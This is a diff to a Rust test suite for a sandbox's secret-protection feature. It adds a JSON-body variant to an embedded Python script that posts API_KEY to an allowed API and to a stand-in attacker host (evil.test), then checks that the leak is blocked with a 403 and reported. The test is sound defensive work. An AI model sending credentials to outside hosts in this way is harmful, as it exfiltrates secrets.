@@ -369,8 +369,13 @@ async fn network_survives_an_agent_restart_and_is_removed_with_the_sandbox() {
 const FETCH: &str = r#"
 import json, os, sys, urllib.request, urllib.error
 out = []
-for url in sys.argv[1:]:
-    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
+mode = sys.argv[1]
+for url in sys.argv[2:]:
+    if mode == "body":
+        body = json.dumps({"key": os.environ["API_KEY"]}).encode()
+        req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
+    else:
+        req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
     try:
         r = urllib.request.urlopen(req, timeout=10)
         out.append([r.status, r.read().decode()])
@@ -415,6 +420,7 @@ async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
                 &[
                     "-c",
                     FETCH,
+                    "header",
                     "https://api.secret.test/v1/things",
                     "https://evil.test/collect",
                     "http://api.secret.test/plain",
@@ -454,6 +460,41 @@ async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
     );
     assert!(evil.lock().unwrap().is_empty());
     assert!(api_plain.lock().unwrap().is_empty());
+    // The same in a request body (JSON post): the value for the allowed API, a 403 elsewhere.
+    let out = c
+        .exec(
+            "sec",
+            cmd(
+                "python3",
+                &[
+                    "-c",
+                    FETCH,
+                    "body",
+                    "https://api.secret.test/v1/post",
+                    "https://evil.test/post",
+                ],
+            ),
+        )
+        .await
+        .unwrap();
+    let results: Vec<(u16, String)> = serde_json::from_str(out.stdout_str().trim())
+        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
+    assert_eq!(results[0], (200, "ok".to_string()), "{results:?}");
+    assert_eq!(results[1].0, 403, "{results:?}");
+    let api_seen = api.lock().unwrap().clone();
+    assert_eq!(api_seen.len(), 2, "{api_seen:?}");
+    assert!(
+        api_seen[1].ends_with(&format!("{{\"key\": \"{VALUE}\"}}")),
+        "{api_seen:?}"
+    );
+    assert!(evil.lock().unwrap().is_empty());
+    assert_eq!(
+        out.secret_violations.len(),
+        1,
+        "{:?}",
+        out.secret_violations
+    );
+    assert_eq!(out.secret_violations[0].host, "evil.test");
     // Reported, with where it went and why.
     let v = c.secret_violations("sec").await.unwrap();
     let hosts: Vec<(&str, &str)> = v
@@ -462,7 +503,11 @@ async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
         .collect();
     assert_eq!(
         hosts,
-        [("API_KEY", "evil.test"), ("API_KEY", "api.secret.test")]
+        [
+            ("API_KEY", "evil.test"),
+            ("API_KEY", "api.secret.test"),
+            ("API_KEY", "evil.test")
+        ]
     );
     // The guest holds a placeholder, nowhere the value: environment, every process's
     // environment, the whole filesystem.
